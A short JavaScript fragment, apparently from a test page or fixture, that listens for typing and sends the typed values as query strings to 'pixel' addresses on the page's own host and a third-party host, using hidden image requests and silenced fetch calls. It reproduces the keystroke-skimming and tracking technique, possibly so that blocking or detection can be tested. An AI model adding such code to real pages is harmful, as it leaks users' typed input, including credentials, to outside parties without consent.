// What is typed, in the addresses of things that are only fetched.
trap.onTyping((values) => {
  const query = '?' + trap.query(values);
  new Image().src = trap.at('pixel') + query;
  new Image().src = trap.third + '/pixel' + query;
  fetch(trap.at('pixel') + query).catch(() => {});
  fetch(trap.third + '/pixel' + query, { mode: 'no-cors' }).catch(() => {});
});
